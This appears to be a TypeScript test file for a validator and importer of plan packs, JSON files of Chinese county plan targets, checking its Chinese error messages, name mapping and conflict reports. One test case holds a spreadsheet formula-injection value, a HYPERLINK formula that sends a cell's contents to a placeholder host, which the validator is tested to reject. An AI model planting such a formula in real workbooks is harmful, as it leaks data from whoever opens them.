// The plan pack: schema errors in Chinese naming the plan, target and field, the facet mapping of imported names, conflicts,
// and one catalog for every face once importPacks has run.
import fixture from "../fixtures/example-pack.json";
import { bundledCatalog } from "../../src/core/catalog/catalog";
import { validatePack, type PlanPack } from "../../src/core/packs/pack";
import { searchTargets } from "../../src/core/catalog/search";
import { createFace } from "../shared/face";
import { valueOf } from "../shared/outcome";

// The face the imports go to: its runner (run) and store answer from them.
const face = createFace();
const { run, importPacks } = face;

const clone = (): PlanPack => JSON.parse(JSON.stringify(fixture)) as PlanPack;

function pack(edit: (p: PlanPack) => void = () => {}): PlanPack {
  const p = clone();
  edit(p);
  const v = validatePack(p);
  if (!v.ok) throw new Error(v.errors.join("\n"));
  return v.pack;
}

function errorsOf(edit: (p: PlanPack & Record<string, unknown>) => void): string[] {
  const p = clone() as PlanPack & Record<string, unknown>;
  edit(p);
  const v = validatePack(p);
  return v.ok ? [] : v.errors;
}

afterEach(() => importPacks([]));

describe("validatePack", () => {
  it("accepts the fixture pack (示例县) without warnings", () => {
    expect(validatePack(fixture)).toMatchObject({ ok: true, warnings: [] });
  });

  it("warns that a base-year figure of a cumulative target is not its baseline (it counts from 0)", () => {
    const p = clone();
    (p.plans[0].targets[0] as { kind: string }).kind = "cumulative";
    const v = validatePack(p);
    expect(v.ok).toBe(true);
    if (v.ok)
      expect(v.warnings).toEqual([
        "第 1 份规划《示例县“十五五”科技创新规划》第 1 个目标“高新技术企业”的基期值(baseline):累计类目标从基期的 0 起算,给出的基期值不用于计算(仍可作为说明保留)",
      ]);
  });

  it.each<[string, (p: PlanPack & Record<string, unknown>) => void, string]>([
    [
      "a target year out of range",
      (p) => ((p.plans[0].targets[2] as { targetYear: unknown }).targetYear = 2200),
      "第 1 份规划《示例县“十五五”科技创新规划》第 3 个目标“技术合同交易额”的目标年(targetYear):填的是“2200”,应为 1990–2100 的整数年份,例如 2030",
    ],
    [
      "a year written as text",
      (p) => ((p.plans[0].targets[0] as { targetYear: unknown }).targetYear = "2030年"),
      "第 1 份规划《示例县“十五五”科技创新规划》第 1 个目标“高新技术企业”的目标年(targetYear):填的是“2030年”,应为 1990–2100 的整数年份,例如 2030",
    ],
    [
      "a value in words",
      (p) => ((p.plans[0].targets[0] as { value: unknown }).value = "约六百"),
      "第 1 份规划《示例县“十五五”科技创新规划》第 1 个目标“高新技术企业”的目标值(value):填的是“约六百”,应为数字,例如 600(不带单位,不用“约”“六百”)",
    ],
    [
      "no 出处",
      (p) => (p.source = ""),
      "规划包的出处(source):出处不能为空:请填写规划文件的标题、网址或文件名",
    ],
    [
      "no 出处 at all",
      (p) => delete (p as Partial<PlanPack>).source,
      "规划包的出处(source):未填写,请填写规划文件的标题、网址或文件名",
    ],
    [
      "no quote",
      (p) => delete (p.plans[0].targets[1] as Partial<PlanPack["plans"][0]["targets"][0]>).quote,
      "第 1 份规划《示例县“十五五”科技创新规划》第 2 个目标“研发经费投入强度”的原文(quote):未填写,请填写规划中写明此目标的原句",
    ],
    [
      "a one-character quote",
      (p) => (p.plans[0].targets[1].quote = "强"),
      "第 1 份规划《示例县“十五五”科技创新规划》第 2 个目标“研发经费投入强度”的原文(quote):填的是“强”,原文至少两个字:请粘贴规划中写明此目标的原句",
    ],
    [
      "not a pack",
      (p) => (p.format = "plan" as "plan-pack"),
      '规划包的格式标记(format):填的是“plan”,应为 "plan-pack"(规划包文件的固定标记)',
    ],
    [
      "an unknown comparison",
      (p) => (p.plans[0].targets[0].comparison = "以上" as "at_least"),
      "第 1 份规划《示例县“十五五”科技创新规划》第 1 个目标“高新技术企业”的比较(comparison):填的是“以上”,应为 达到(reach)、以上(at_least)、超过(more_than)、左右(about)、区间(range) 之一",
    ],
    [
      "a range without its upper bound",
      (p) => Object.assign(p.plans[0].targets[0], { comparison: "range", value: null, min: 1 }),
      "第 1 份规划《示例县“十五五”科技创新规划》第 1 个目标“高新技术企业”的下限(min):填的是“1”,区间目标需要填写下限 min 和上限 max,且 min ≤ max",
    ],
    [
      "a baseline that is not in the plan",
      (p) => (p.plans[0].targets[0].baseline = "nope"),
      "第 1 份规划《示例县“十五五”科技创新规划》第 1 个目标“高新技术企业”的基期值(baseline):“nope”不在本规划的 observations 中,请补上或删去",
    ],
    [
      "two targets for one indicator and year",
      (p) => {
        p.plans[0].targets[1].indicator = "hte";
        p.plans[0].targets[1].quote = "高新技术企业达到2.2家";
      },
      "第 1 份规划《示例县“十五五”科技创新规划》第 2 个目标“高新技术企业”:与第 1 份规划《示例县“十五五”科技创新规划》第 1 个目标“高新技术企业”是同一地区、指标、目标年的目标;如是同一目标的另一种说法,请把 restates 设为那条目标的编号",
    ],
    [
      "a second plan's target for the first plan's third indicator and year",
      (p) => {
        const second = JSON.parse(JSON.stringify(p.plans[0])) as (typeof p.plans)[0];
        second.id = "kjcx15-2";
        second.title = "第二份规划";
        second.targets = [second.targets[3], second.targets[2]];
        second.targets[0].id = "other";
        p.plans.push(second);
      },
      "第 2 份规划《第二份规划》第 2 个目标“技术合同交易额”:与第 1 份规划《示例县“十五五”科技创新规划》第 3 个目标“技术合同交易额”是同一地区、指标、目标年的目标;如是同一目标的另一种说法,请把 restates 设为那条目标的编号",
    ],
    [
      "a pack id with a double hyphen",
      (p) => (p.id = "a--b"),
      "规划包的编号(id):填的是“a--b”,规划包编号只能用小写字母和数字,以单个 - 连接,最长 40 个字符,例如 moux-15th",
    ],
    [
      "two targets with one id",
      (p) => (p.plans[0].targets[1].id = "hte"),
      "第 1 份规划《示例县“十五五”科技创新规划》第 2 个目标“研发经费投入强度”的编号(id):目标编号“hte”重复,请改用另一个编号",
    ],
    [
      "U+FFFE in a plan title (invalid in the workbook's XML)",
      (p) => (p.plans[0].title = "规划\uFFFE标题"),
      "第 1 份规划《规划�标题》的规划标题(title):第 3 个字符是控制字符或无效字符(U+FFFE),请删去后重新导入",
    ],
    [
      "U+1FFFF in a name",
      (p) => (p.name = "示例\uD83F\uDFFF"),
      "规划包的名称(name):第 3 个字符是控制字符或无效字符(U+1FFFF),请删去后重新导入",
    ],
    [
      "a lone surrogate in an indicator name",
      (p) => (p.indicators[0].name = "高新\uD842企业"),
      "第 1 个指标“高新�企业”的名称(name):第 3 个字符是控制字符或无效字符(U+D842),请删去后重新导入",
    ],
    [
      "a terminal escape in a quote",
      (p) => (p.plans[0].targets[0].quote = "\u001b[31m高新技术企业达到150家"),
      "第 1 份规划《示例县“十五五”科技创新规划》第 1 个目标“高新技术企业”的原文(quote):第 1 个字符是控制字符或无效字符(U+001B),请删去后重新导入",
    ],
    [
      "a quote longer than a cell holds",
      (p) => (p.plans[0].targets[0].quote = "高".repeat(40_000)),
      "第 1 份规划《示例县“十五五”科技创新规划》第 1 个目标“高新技术企业”的原文(quote):文字有 40000 个字符,超过单元格上限 32767 个字符,请删短",
    ],
    [
      "a unit that carries a formula",
      (p) => (p.plans[0].targets[0].unit = '家"&HYPERLINK("http://x?d="&B3,"点此修正")&"'),
      '第 1 份规划《示例县“十五五”科技创新规划》第 1 个目标“高新技术企业”的单位(unit):填的是“家"&HYPERLINK("http://x?d="&B3,…”,单位应为 1–12 个文字、字母、数字或 %‰°/·,例如 家、亿元、%、件/万人(不含引号、空格、& 或 =)',
    ],
    [
      "a unit that opens a quote",
      (p) => (p.plans[0].observations[0].unit = '"家'),
      '第 1 份规划《示例县“十五五”科技创新规划》第 1 个基期值“高新技术企业”的单位(unit):填的是“"家”,单位应为 1–12 个文字、字母、数字或 %‰°/·,例如 家、亿元、%、件/万人(不含引号、空格、& 或 =)',
    ],
  ])("%s is an error naming its plan, target and field in words", (_, edit, message) => {
    expect(errorsOf(edit)).toContain(message);
  });

  it("accepts a surrogate pair, line breaks in a quote and units such as 件/万人 and ‰", () => {
    const v = pack((p) => {
      p.plans[0].title = "𠮷野县“十五五”科技创新规划";
      p.plans[0].targets[0].quote = `到2030年,\r\n高新技术企业达到${p.plans[0].targets[0].value}家`;
      p.plans[0].targets[1].unit = "件/万人";
      p.plans[0].targets[2].unit = "‰";
    });
    expect(v.plans[0].title).toBe("𠮷野县“十五五”科技创新规划");
  });

  it("warns (does not fail) when the quote does not state the value in digits", () => {
    const p = clone();
    p.plans[0].targets[0].value = 160;
    const v = validatePack(p);
    expect(v.ok).toBe(true);
    expect(v.ok && v.warnings).toEqual([
      "第 1 份规划《示例县“十五五”科技创新规划》第 1 个目标“高新技术企业”的原文(quote):原文“到2030年,全县高新技术企业达到150家以上”中没有数字 160," +
        "请核对目标值和原文(如原文写的是“翻番”“全覆盖”,请把 implied 设为 true)",
    ]);
  });

  it("reads 1,234 and 全角 digits in a quote", () => {
    const p = clone();
    p.plans[0].targets[0].value = 1234;
    p.plans[0].targets[0].quote = "高新技术企业达到1,234家";
    p.plans[0].targets[1].quote = "研发经费投入强度达到２.２%";
    expect(validatePack(p)).toMatchObject({ ok: true, warnings: [] });
  });
});

describe("imported names map onto the vocabulary's facets", () => {
  beforeEach(() => expect(importPacks([pack()]).errors).toEqual([]));

  it.each([
    ["高新技术企业", 150],
    ["国家高新技术企业", 150],
    ["高新技术企业数（家）", 150],
    ["示例县", 150],
  ])("示例县 %s answers the pack's 150 (quote: 全县高新技术企业达到150家以上)", (name, v) => {
    const region = name === "示例县" ? "示例" : "示例县";
    const indicator = name === "示例县" ? "高新技术企业" : name;
    expect(valueOf(run("TARGET", [region, indicator, 2030]))).toBe(v);
  });

  it("an imported 高新技术企业 is the bundled indicator (one meaning, one entry)", () => {
    expect(face.context().resolver.target("示例县", "高新技术企业", 2030).indicator).toBe(
      "hightech_enterprises",
    );
  });

  it.each([
    ["新增高新技术企业", "规划中的“高新技术企业”是总量(存量),不是新增量"],
    ["高新技术企业营业收入", "规划中的“高新技术企业”统计的是数量,不是营业收入"],
  ])("%s is refused with the usual reason", (name, reason) => {
    const o = run("TARGET", ["示例县", name, 2030]);
    expect(o).toMatchObject({ ok: false, error: "#N/A" });
    expect(!o.ok && o.message).toContain(reason);
  });

  it("R&D经费投入强度(%) and 技术合同成交额 reach the pack's targets through the vocabulary", () => {
    expect(valueOf(run("TARGET", ["示例县", "2.R&D经费投入强度(%)", 2030]))).toBe(2.2);
    expect(valueOf(run("TARGET", ["示例县", "技术合同成交额", 2030, "万元"]))).toBe(50000);
  });

  it("an unreadable new name answers itself only", () => {
    expect(valueOf(run("TARGET", ["示例县", "乡村科技特派员工作站", 2030]))).toBe(30);
    expect(valueOf(run("TARGET", ["示例县", "乡村科技特派员工作站（个）", 2030]))).toBe(30);
    for (const other of ["科技特派员工作站", "工作站", "乡村科技特派员"])
      expect(run("TARGET", ["示例县", other, 2030])).toMatchObject({ ok: false, error: "#N/A" });
  });

  it("a new name written as a row label (1.…(个)) is kept without its decorations", () => {
    importPacks([pack((p) => (p.indicators[4].name = "1.乡村科技特派员工作站（个）"))]);
    expect(valueOf(run("TARGET", ["示例县", "乡村科技特派员工作站", 2030]))).toBe(30);
    expect(face.catalog().indicators.find((i) => i.id.endsWith("__station"))!.name).toBe(
      "乡村科技特派员工作站",
    );
  });

  it("a new entry captures no other region's names", () => {
    expect(valueOf(run("TARGET", ["益阳", "高新技术企业", 2025]))).toBe(600);
    expect(run("TARGET", ["益阳", "乡村科技特派员工作站", 2025])).toMatchObject({ ok: false, error: "#N/A" });
  });

  it("INFO shows the quote, the user's 出处 and the pack", () => {
    expect(valueOf(run("INFO", ["示例县", "高新技术企业", 2030, "原文"]))).toBe(
      "到2030年,全县高新技术企业达到150家以上",
    );
    expect(valueOf(run("INFO", ["示例县", "高新技术企业", 2030, "出处"]))).toBe(
      "《示例县“十五五”科技创新规划》(示例县人民政府,2026-03;导入自:" + fixture.source + ")",
    );
    expect(valueOf(run("INFO", ["示例县", "高新技术企业", 2030, "规划"]))).toBe(
      `示例县“十五五”科技创新规划〔导入:${fixture.name}〕`,
    );
    expect(valueOf(run("BASELINE", ["示例县", "高新技术企业", 2030]))).toBe(86);
  });

  it("search finds the imported target beside the bundled ones", () => {
    const regions = searchTargets(face.catalog(), "高新技术企业").map((h) => h.target.regionDef.name);
    expect(regions).toEqual(expect.arrayContaining(["示例县", "益阳", "中山"]));
  });

  it("the data version covers the packs", () => {
    expect(face.catalog().version).not.toBe(bundledCatalog().version);
    importPacks([]);
    expect(face.catalog().version).toBe(bundledCatalog().version);
  });
});

describe("conflicts", () => {
  /** A 益阳 pack restating the bundled 2025 target with another number. */
  const yiyang = () =>
    pack((p) => {
      p.id = "yiyang-restated";
      p.name = "益阳规划包";
      p.regions = [];
      p.plans[0].region = "yiyang";
      for (const t of p.plans[0].targets) t.region = "yiyang";
      p.plans[0].observations[0].region = "yiyang";
      p.plans[0].targets[0].targetYear = 2025;
    });

  it("a target the bundled plan states is reported and not imported; the rest are", () => {
    const r = importPacks([yiyang()]);
    expect(r.errors).toEqual([]);
    expect(r.conflicts).toEqual([
      expect.objectContaining({
        packId: "yiyang-restated",
        region: "益阳",
        indicator: "高新技术企业",
        year: 2025,
        existing: "内置规划《益阳市“十四五”科技发展规划》",
      }),
    ]);
    expect(r.conflicts[0].message).toContain("未导入");
    expect(r.plans[0].targets).toBe(4);
    expect(valueOf(run("TARGET", ["益阳", "高新技术企业", 2025]))).toBe(600);
    expect(valueOf(run("TARGET", ["益阳", "乡村科技特派员工作站", 2030]))).toBe(30);
  });

  it("a baseline that differs from a bundled figure for the same year is said in a note", () => {
    const r = importPacks([
      pack((p) => {
        p.id = "yiyang-base";
        p.regions = [];
        p.plans[0].region = "yiyang";
        for (const t of p.plans[0].targets) t.region = "yiyang";
        Object.assign(p.plans[0].observations[0], { region: "yiyang", year: 2020, value: 315 });
        p.plans[0].targets[0].quote = "2020年高新技术企业315家,到2030年达到150家以上";
      }),
    ]);
    expect(r.notes).toContain(
      "规划包“示例县“十五五”科技创新规划(虚构示例)”:益阳“高新技术企业”2020年的数值,规划包为 315家," +
        "内置规划《益阳市“十四五”科技发展规划》为 312家:规划包目标的基期值用规划包的数值;PLAN.BASELINE 按年份查历史数据时取已有的数值",
    );
    expect(valueOf(run("BASELINE", ["益阳", "高新技术企业", 2030]))).toBe(315);
  });

  it("a per-year target whose period covers a bundled target's year conflicts in that year", () => {
    const r = importPacks([
      pack((p) => {
        p.id = "yiyang-per-year";
        p.regions = [];
        p.plans[0].region = "yiyang";
        for (const t of p.plans[0].targets) t.region = "yiyang";
        p.plans[0].observations[0].region = "yiyang";
        Object.assign(p.plans[0].targets[0], {
          kind: "per_year",
          value: 50,
          period: { start: 2024, end: 2028 },
          targetYear: 2028,
          baseline: null,
          quote: "每年新增高新技术企业50家",
        });
      }),
    ]);
    expect(r.conflicts.map((c) => [c.indicator, c.year, c.existing])).toEqual([
      ["高新技术企业", 2025, "内置规划《益阳市“十四五”科技发展规划》"],
    ]);
    expect(valueOf(run("TARGET", ["益阳", "高新技术企业", 2025]))).toBe(600);
  });

  it("a target another pack states is reported with that pack's name", () => {
    const second = pack((p) => (p.id = "fixture-copy"));
    const r = importPacks([pack(), second]);
    expect(r.conflicts).toHaveLength(5);
    expect(new Set(r.conflicts.map((c) => c.existing))).toEqual(new Set([`规划包“${fixture.name}”`]));
    expect(valueOf(run("TARGET", ["示例县", "高新技术企业", 2030]))).toBe(150);
  });

  it("packs whose own ids run together still get distinct catalog ids", () => {
    const a = pack((p) => {
      p.id = "a";
      p.plans[0].id = "b-c";
      p.indicators[4].id = "b_c";
      p.plans[0].targets[4].indicator = "b_c";
    });
    const b = pack((p) => {
      p.id = "a-b";
      p.regions[0] = { ...p.regions[0], id: "x", name: "另一县", fullName: "另一县", aliases: [] };
      p.plans[0].region = "x";
      for (const t of p.plans[0].targets) t.region = "x";
      p.plans[0].observations[0].region = "x";
      p.plans[0].id = "c";
      p.indicators[4] = { ...p.indicators[4], id: "c", name: "另一种工作站" };
      p.plans[0].targets[4].indicator = "c";
    });
    const r = importPacks([a, b]);
    expect(r.errors).toEqual([]);
    expect(new Set(r.plans.map((p) => p.id)).size).toBe(2);
    const ids = face
      .catalog()
      .indicators.filter((i) => i.id.startsWith("pack_"))
      .map((i) => i.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(valueOf(run("TARGET", ["另一县", "另一种工作站", 2030]))).toBe(30);
  });

  it("the same pack twice is imported once", () => {
    const r = importPacks([pack(), pack()]);
    expect(r.plans).toHaveLength(1);
    expect(r.errors[0]).toContain("同一编号的规划包已导入");
  });
});

describe("regions and indicators taken as existing ones", () => {
  it("a region alias that is another region's name is an error, not a silent merge into that region", () => {
    const r = importPacks([pack((p) => (p.regions[0].aliases = ["城区"]))]);
    expect(r.plans).toEqual([]);
    expect(r.errors).toEqual([
      `规划包“${fixture.name}”:地区“示例县”:别名“城区”已是汕尾市城区(汕尾城区)的名称,请删去或改写这个名称`,
    ]);
    expect(valueOf(run("TARGET", ["城区", "高新技术企业", 2026]))).toBe(50);
  });

  it("a region named like an existing one is that region, and the report says so", () => {
    const r = importPacks([
      pack((p) => {
        p.regions[0] = { ...p.regions[0], name: "城区", fullName: "城区", aliases: [] };
        for (const t of p.plans[0].targets) t.targetYear = 2030;
      }),
    ]);
    expect(r.notes).toContain(
      `规划包“${fixture.name}”:地区“城区”按已有的汕尾市城区(汕尾城区)导入;如不是同一地区,请写出全称以示区别`,
    );
  });

  it("an indicator named differently but meaning the same is the existing one, said in a note", () => {
    const r = importPacks([pack((p) => (p.indicators[0].name = "有效高新技术企业家数"))]);
    expect(r.errors).toEqual([]);
    expect(r.notes).toEqual([
      `规划包“${fixture.name}”:指标“有效高新技术企业家数”与已有的“高新技术企业”含义相同,按同一指标导入`,
    ]);
    expect(face.context().resolver.target("示例县", "高新技术企业", 2030).indicator).toBe(
      "hightech_enterprises",
    );
  });
});

describe("importPacks rebuilds the store's context", () => {
  it("the memoized runner answers from the new catalog, and from the bundled one again after", () => {
    expect(run("TARGET", ["示例县", "高新技术企业", 2030])).toMatchObject({ ok: false });
    importPacks([pack()]);
    expect(valueOf(run("TARGET", ["示例县", "高新技术企业", 2030]))).toBe(150);
    importPacks([]);
    expect(run("TARGET", ["示例县", "高新技术企业", 2030])).toMatchObject({ ok: false, error: "#N/A" });
  });

  it("a pack referring to an unknown region adds nothing and says where", () => {
    const bad = pack((p) => (p.plans[0].targets[1].region = "nowhere"));
    const r = importPacks([bad]);
    expect(r.plans).toEqual([]);
    expect(r.errors).toEqual([
      `规划包“${fixture.name}”:第 1 份规划《示例县“十五五”科技创新规划》第 2 个目标“研发经费投入强度”的地区(region):未知地区“nowhere”,请在 regions 中补上`,
    ]);
    expect(face.catalog()).toBe(bundledCatalog());
  });
});
